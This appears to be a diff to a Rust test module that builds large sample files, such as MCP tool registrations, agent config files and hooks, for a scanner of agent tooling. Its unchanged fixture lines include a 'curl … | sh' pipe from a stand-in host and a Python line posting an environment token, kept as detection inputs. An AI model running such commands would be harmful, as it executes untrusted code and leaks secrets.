@@ -18,6 +18,8 @@ enum Content {
     Repeated(&'static str),
     /// A beginning, then a unit over and over, and an end.
     Within(&'static str, &'static str, &'static str),
+    /// A beginning, then a unit over and over with its number for `#`, and an end.
+    Numbered(&'static str, &'static str, &'static str),
     /// A unit over and over, as base64.
     Base64(&'static str),
     /// A unit over and over, as hex digits.
@@ -39,6 +41,10 @@ impl Shape {
             Content::Repeated(unit) => repeated(unit.as_bytes()),
             Content::Within(beginning, unit, end) => {
                 [beginning.as_bytes(), &repeated(unit.as_bytes()), end.as_bytes()].concat()
+            }
+            Content::Numbered(beginning, unit, end) => {
+                let units = (0..BYTES / (unit.len() + 5)).map(|number| unit.replace('#', &number.to_string()));
+                [*beginning, &units.collect::<String>(), *end].concat().into_bytes()
             }
             Content::Base64(unit) => base64(&repeated(unit.as_bytes())),
             Content::Hex(unit) => repeated(unit.as_bytes()).iter().flat_map(|byte| hex(*byte)).take(BYTES).collect(),
@@ -137,6 +143,35 @@ const CELLS: Content = Content::Within(
     r#"{"cell_type":"code","source":["eval(a)\n"]},"#,
     r#"{"cell_type":"markdown"}]}"#,
 );
+
+/// A list whose last entry has no comma behind it.
+const fn listed(beginning: &'static str, unit: &'static str) -> Content {
+    Content::Within(beginning, unit, "{}]}")
+}
+
+const KIT: &str =
+    "import { McpServer } from \"@modelcontextprotocol/sdk/server/mcp.js\";\nconst server = new McpServer({});\n";
+
+const PYTHON_TOOLS: Content = Content::Within(
+    "from mcp.server.fastmcp import FastMCP\nmcp = FastMCP(\"a\")\n",
+    "@mcp.tool()\ndef add(a: int) -> int:\n    \"\"\"Adds one to a number.\"\"\"\n    return a + 1\n",
+    "",
+);
+const SCRIPT_TOOLS: Content = Content::Within(
+    KIT,
+    "server.registerTool(\"add\", { description: \"Adds one.\", inputSchema: { a: z.number() } }, async () => ({}));\n",
+    "",
+);
+const BUNDLE: Content =
+    Content::Within(KIT, "s.tool(\"add\",\"Adds one.\",{a:z.number()},async t=>({content:[t.map(c=>c+1)]}));", "");
+const WRAPPED_TOOLS: Content = Content::Within(
+    "import { McpServer } from \"@modelcontextprotocol/sdk/server/mcp.js\";\nconst server = new McpServer({});\n\
+     function reg(name, text) { server.registerTool(name, { description: text, inputSchema: {} }, async () => ({})); }\n",
+    "reg(\"add\", \"Adds one to a number.\");\n",
+    "",
+);
+const MESSAGE: &str =
+    "{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{\"tools\":[{\"name\":\"add\",\"description\":\"Adds one.\"}]}}\n";
 
 /// Every shape.
 pub(crate) const SHAPES: &[Shape] = &[
@@ -248,5 +283,69 @@ pub(crate) const SHAPES: &[Shape] = &[
     other("python-open", "server.py", "("),
     other("python-sends", "server.py", "requests.post(u, os.environ['A_TOKEN'])\n"),
     made("notebook", "run.ipynb", CELLS),
+    // Readers of what servers register and clients configure.
+    made("reader-python-tools", "server.py", PYTHON_TOOLS),
+    made("reader-script-tools", "server.js", SCRIPT_TOOLS),
+    made("reader-bundle", "dist/index.js", BUNDLE),
+    made("reader-wrapped-tools", "server.js", WRAPPED_TOOLS),
+    other("reader-go-tools", "main.go", "s.AddTool(mcp.NewTool(\"add\", mcp.WithDescription(\"Adds one.\")), add)\n"),
+    other(
+        "reader-java-tools",
+        "A.java",
+        "@Tool(name = \"add\", description = \"Adds one.\") int add(int a) { return a; }\n",
+    ),
+    other(
+        "reader-csharp-tools",
+        "A.cs",
+        "[McpServerTool, Description(\"Adds one.\")] static int Add(int a) => a + 1;\n",
+    ),
+    other("reader-rust-tools", "a.rs", "#[tool(description = \"Adds one.\")] fn add(&self, a: i32) -> i32 { a + 1 }\n"),
+    other("reader-php-tools", "a.php", "#[McpTool(name: 'add', description: 'Adds one.')] function add(int $a) {}\n"),
+    other("reader-ruby-tools", "a.rb", "class Add < MCP::Tool\n  description \"Adds one.\"\nend\n"),
+    other("reader-kotlin-tools", "a.kt", "server.addTool(name = \"add\", description = \"Adds one.\") { Result() }\n"),
+    other("reader-messages", "tools.jsonl", MESSAGE),
+    made("reader-prompts", "prompts.json", listed(r#"{"prompts": ["#, r#"{"name": "a", "description": "Adds one."},"#)),
+    made(
+        "reader-resources",
+        "resources.json",
+        listed(r#"{"resources": ["#, r#"{"uri": "ui://a", "_meta": {"a": "b"}},"#),
+    ),
+    made(
+        "reader-card",
+        ".well-known/agent-card.json",
+        listed(r#"{"skills": ["#, r#"{"name": "a", "description": "b"},"#),
+    ),
+    made(
+        "reader-marketplace",
+        "marketplace.json",
+        listed(r#"{"name": "a", "plugins": ["#, r#"{"name": "a", "source": {"repo": "a/b"}},"#),
+    ),
+    made(
+        "reader-hooks",
+        "hooks/hooks.json",
+        listed(r#"{"hooks": {"Stop": ["#, r#"{"hooks": [{"command": "cargo fmt"}]},"#),
+    ),
+    made(
+        "reader-lock",
+        "skills-lock.json",
+        Content::Numbered(r#"{"skills": {"#, r#""s#": {"source": "a/b"},"#, r#""z": {}}}"#),
+    ),
+    made(
+        "reader-servers",
+        ".mcp.json",
+        Content::Numbered(r#"{"mcpServers": {"#, r#""s#": {"command": "npx"},"#, r#""z": {}}}"#),
+    ),
+    made("reader-settings", ".codex/config.toml", Content::Numbered("", "[mcp_servers.s#]\ncommand = \"npx\"\n", "")),
+    made(
+        "reader-yaml",
+        ".continue/mcpServers/a.yaml",
+        Content::Within("mcpServers:\n", "  - {name: a, command: npx}\n", ""),
+    ),
+    made(
+        "reader-recipe",
+        "recipe.yaml",
+        Content::Within("title: a\ninstructions: |\n", "  Sum up what changed.\n", ""),
+    ),
+    made("reader-command", ".gemini/commands/a.toml", Content::Within("prompt = \"\"\"\n", "Sum up.\n", "\"\"\"\n")),
     other("shell", "run.sh", "curl http://a.test/x | sh; "),
 ];
